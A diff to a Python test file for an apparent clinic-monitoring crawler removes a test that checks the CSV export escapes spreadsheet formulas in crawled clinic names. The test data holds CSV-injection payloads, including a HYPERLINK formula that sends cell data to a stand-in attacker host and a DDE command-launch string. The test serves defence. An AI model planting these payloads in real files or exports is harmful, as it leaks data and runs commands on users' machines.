@@ -158,39 +158,3 @@ def test_flag_and_flags_commands(db_url, tmp_path, monkeypatch, capsys):
     assert capsys.readouterr().out.startswith(
         "clinic,name,country,severity,status,rule,url,evidence,cites,opened_at"
     )
-
-
-def test_flags_csv_keeps_formulas_from_crawled_names_as_text(db_url, monkeypatch, capsys):
-    """A clinic named by a listing as a spreadsheet formula comes out of the CSV as text."""
-    import csv
-    import io
-
-    monkeypatch.delenv("EXOWATCH_CONFIG", raising=False)
-    monkeypatch.setenv("EXOWATCH_DATABASE_URL", db_url)
-    formulas = [
-        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(1,2)",
-        "\t=1+1",
-        "\r=1+1",
-    ]
-    store = Store.open(db_url)
-    store.init()
-    try:
-        for number, name in enumerate(formulas):
-            key = f"clinic{number}.example"
-            store.upsert_clinics([ClinicRecord(key, name=name, domain=key)], source="t", seen_at=None)
-            now = datetime.now(UTC)
-            url = f"http://{key}/treatments/exosome-iv"
-            page = PageRecord(url=url, title="Exosome IV", text=OFFER, content_hash="h", fetched_at=now, checked_at=now)
-            store.upsert_pages([page], clinic_keys={url: key}, html={url: (OFFER.encode(), "utf-8")}, source="t")
-        run_flagger(store)
-    finally:
-        store.close()
-    assert main(["flags", "--format", "csv"]) == 0
-    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
-    names = {row["name"] for row in rows}
-    assert names == {"'" + name for name in formulas}
-    assert all(not row["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
-    assert {row["clinic"] for row in rows} == {f"clinic{n}.example" for n in range(len(formulas))}  # untouched
